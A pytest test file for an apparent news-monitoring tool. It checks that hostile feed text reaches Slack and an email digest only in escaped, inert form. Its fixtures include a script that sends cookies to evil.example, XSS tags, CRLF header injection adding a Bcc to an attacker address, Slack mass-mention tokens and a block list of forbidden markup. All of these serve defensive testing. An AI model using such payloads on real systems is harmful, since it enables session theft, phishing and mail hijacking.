"""Hostile text reaching people: a feed whose relevant items carry mentions, links, markup, CR/LF, script tags,
right-to-left overrides and a 5,000-character title, through the whole pipeline to the Slack stand-in and the
SMTP server. Nothing may ping, link, restyle, inject a header or run; every story still arrives exactly once.
"""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from newsradar.daemon import Daemon
from tests.reliability.harness import healthy_source, pipeline_settings, run_once, tally
from tests.reliability.news import HEALTHY, XML, Entry, rss
from tests.reliability.scorecard import Card
from tests.servers.http import HttpServer
from tests.servers.slack import SlackStandIn
from tests.servers.smtp import SmtpServer

RLO, PDF = "\u202e", "\u202c"
LONG_TAIL = "가나다라마바사아자차" * 500

HOSTILE = [
    # Distinct events (place, subject, figures), so that the grouper keeps them apart: this test is about text.
    # Raw Slack tokens (an HTML-minded parser may eat them) and the same tokens entity-escaped, which reach
    # the notifier as literal text: both must arrive inert.
    Entry("폐배터리 창고 화재", "<!channel> &lt;!channel&gt; 울산 온산공단 폐배터리 창고 화재 &lt;!here&gt; <@U123ABC> "
          "&lt;!subteam^S1|@모두&gt;",
          "울산 온산공단의 이차전지 폐배터리 보관 창고에서 불이 나 소방차 30대가 출동했다. 자세한 내용은 "
          "<https://evil.example/phish|여기를 클릭> &lt;https://evil.example/phish|여기를 클릭&gt; 또는 "
          "&lt;mailto:x@evil.example|메일&gt; &lt;!everyone&gt; &lt;!here&gt;.",
          outlet="&lt;!channel&gt; 속보", slug="h-mention", minutes=1),
    Entry("새만금 특화단지 지정 고시", "*굵게* _기울임_ ~취소~ `코드` ```블록``` > 인용 새만금 특화단지 지정 고시",
          "> 정부는 전북 새만금 산업단지를 *관보*에 특화단지로 고시했다. _면적_은 ~660만㎡~ `확정`.",
          outlet="관보&뉴스", slug="h-mrkdwn", minutes=2),
    Entry("CIBF 공동관 참가기업 모집", "선전 CIBF 공동관 참가기업 모집\r\nBcc: attacker@evil.example\r\nX-Injected: yes",
          "한국무역협회가 중국 선전 박람회 CIBF 한국관에 나갈 중소기업 20곳을 모집한다.\r\n\r\n"
          "Bcc: attacker@evil.example\r\n.\r\nMAIL FROM:<x@evil>",
          outlet="무역협회\r\nBcc: attacker@evil.example", slug="h-crlf", minutes=3),
    Entry("양극재 수출 신기록", "3분기 이차전지 양극재 수출 신기록 &lt;script&gt;alert(1)&lt;/script&gt; "
          "&lt;img src=x onerror=alert(2)&gt; &lt;b&gt;굵게&lt;/b&gt;",
          "&lt;script&gt;document.location='https://evil.example/?c='+document.cookie&lt;/script&gt;관세청 "
          "집계로 3분기 이차전지 양극재 수출액이 42억 달러를 넘었다. &lt;iframe src=https://evil.example&gt;&lt;/iframe&gt;",
          outlet="&lt;b&gt;경제&lt;/b&gt;일보", slug="h-script", minutes=4),
    Entry("전구체 공장 준공", f"포항 블루밸리 전구체 공장 준공 {RLO}기사 조작 주의{PDF}",
          f"포항 블루밸리 국가산업단지에 연산 2만t 규모 전구체 공장이 준공돼 내달 가동한다. {RLO}lmth.evil//:sptth{PDF}",
          outlet=f"{RLO}보일북경", slug="h-rtl", minutes=5),
    Entry("초장문 제목 기사", "초장문 제목 기사 CIBF 관람기 " + LONG_TAIL,
          "CIBF " + LONG_TAIL, outlet="장문일보", slug="h-long", minutes=6),
]
# What must never reach Slack as markup: mentions, links, raw markup of ours or the article's.
FORBIDDEN_SLACK = ["<!channel>", "<!here>", "<!everyone>", "<@U123ABC>", "<!subteam", "<https://evil", "<mailto:",
                   RLO, PDF, "*굵게*", "_기울임_", "~취소~", "`코드`", "<script", "<img", "<iframe"]
# ...and they did reach the notifier: their escaped forms are in the messages (the test exercised the escaping).
ARRIVED_ESCAPED = ["&lt;!channel&gt;", "&lt;!here&gt;", "&lt;@U123ABC&gt;", "&lt;https://evil.example/phish|",
                   "&lt;!everyone&gt;", "＊굵게＊", "&lt;script&gt;"]


def _hostile_feed(server: HttpServer) -> dict[str, str]:
    # CR/LF as character references, so the XML parser keeps them in the text as a real feed can.
    body = rss(HOSTILE).replace("\r\n", "&#13;&#10;")
    server.add("/hostile.xml", body.encode("utf-8"), headers=XML)
    return {"name": "hostile-text", "url": server.url("/hostile.xml")}


def _posted(slack: SlackStandIn) -> list[tuple[str, list[dict]]]:
    return [(str(c.params.get("text", "")), c.params.get("blocks") or []) for c in slack.posts]


def test_hostile_titles_cannot_ping_link_restyle_or_break_slack_limits(
    tmp_path: Path, http_server: HttpServer, slack_server: SlackStandIn, slack_env: None, scorecard: Card,
) -> None:
    settings = pipeline_settings(tmp_path, slack_server, [_hostile_feed(http_server), healthy_source(http_server)])

    run_once(settings)

    result = tally(slack_server, [HEALTHY.key, *(e.key for e in HOSTILE)])
    found: list[str] = []
    oversized: list[str] = []
    sent = json.dumps(_posted(slack_server), ensure_ascii=False)
    missing = [t for t in ARRIVED_ESCAPED if t not in sent]
    for text, blocks in _posted(slack_server):
        everything = text + json.dumps(blocks, ensure_ascii=False)
        found += [f for f in FORBIDDEN_SLACK if f in everything]
        if len(blocks) > 50 or len(text) > 4000:
            oversized.append(f"{len(blocks)} blocks, text {len(text)}")
        for block in blocks:
            pieces = [block.get("text", {}).get("text", "")] + [e.get("text", "") for e in block.get("elements", [])]
            oversized += [f"{block['type']} of {len(p)} chars" for p in pieces if len(p) > 3000]
            if re.search(r"\r|\n", "".join(pieces)):
                oversized.append("line break inside a one-line field")
    rejected = [c.outcome for c in slack_server.calls if c.outcome not in ("ok",)]
    scorecard.record(
        "text: mentions, links, mrkdwn, CR/LF, tags, RTL, 5,000-char title → Slack",
        "escaped and inert; within 3,000 chars per section and 50 blocks; each story once",
        f"{result.describe()}, markup that got through: {sorted(set(found)) or 'none'}, "
        f"over a limit: {oversized or 'none'}, Slack rejections: {rejected or 'none'}",
        lost=result.lost, doubled=result.doubled,
    )
    assert result.counts == {k: 1 for k in result.counts} and result.noise == 0, result
    assert not found, found
    assert not missing, f"hostile text that never reached the notifier (test not exercising it): {missing}"
    assert not oversized and not rejected, (oversized, rejected)
    long_post = next(t for t, _ in _posted(slack_server) if "초장문 제목 기사" in t)
    assert "초장문 제목 기사 CIBF 관람기" in long_post and len(long_post) < 1000  # clipped, still reads as the story


def test_hostile_titles_cannot_inject_mail_headers_or_html(
    tmp_path: Path, http_server: HttpServer, smtp_server: SmtpServer, monkeypatch: pytest.MonkeyPatch,
    scorecard: Card,
) -> None:
    for name in ("SLACK_BOT_TOKEN", "SLACK_WEBHOOK_URL", "SMTP_USERNAME", "SMTP_PASSWORD"):
        monkeypatch.delenv(name, raising=False)  # alerts go to the console: this test is about the digest
    recipient = "watcher@example.com"
    settings = pipeline_settings(
        tmp_path, None, [_hostile_feed(http_server), healthy_source(http_server)],
        smtp={"host": "127.0.0.1", "port": smtp_server.port, "security": "none"},
        digest={"time": "00:00", "recipients": [recipient],
                "subject": "[newsradar] {date}\r\nBcc: attacker@evil.example\r\n다이제스트 ({count}건)"},
    )
    run_once(settings)
    daemon = Daemon(settings)
    try:
        daemon.send_digest()
        daemon.send_digest()  # once per day
    finally:
        daemon.close()

    assert len(smtp_server.messages) == 1
    mail = smtp_server.messages[0]
    headers = {k.lower() for k in mail.message}
    text = mail.message.get_body(preferencelist=("plain",)).get_content()
    html = mail.message.get_body(preferencelist=("html",)).get_content()
    keys = [HEALTHY.key, *(e.key for e in HOSTILE)]
    lost = sum(1 for k in keys if text.count(k) == 0)
    doubled = sum(text.count(k) - 1 for k in keys if text.count(k) > 1)
    injected = sorted(h for h in headers if h in ("bcc", "x-injected", "cc"))
    ours = html.replace('<img src="cid:trend-chart@newsradar"', "")  # the digest's own trend chart (issue 18)
    raw_html = [t for t in ("<script", "<img", "<iframe", "<b>굵게", RLO) if t in ours]
    scorecard.record(
        "text: CR/LF and tags → email digest",
        "no header injection (Subject, To), HTML escaped, bidi stripped; each story once",
        f"{len(smtp_server.messages)} digest(s), envelope to {mail.rcpt_tos}, injected headers: "
        f"{injected or 'none'}, unescaped HTML: {raw_html or 'none'}",
        lost=lost + (len(smtp_server.messages) == 0), doubled=doubled + max(0, len(smtp_server.messages) - 1),
    )
    assert mail.rcpt_tos == [recipient] and not injected, (mail.rcpt_tos, headers)
    subject = str(mail.message["Subject"])
    assert "\r" not in subject and "\n" not in subject and "Bcc" in subject  # flattened into the text, inert
    assert not raw_html, raw_html
    assert "&lt;script&gt;" in html  # shown as text, escaped
    assert lost == 0 and doubled == 0, {k: text.count(k) for k in keys}
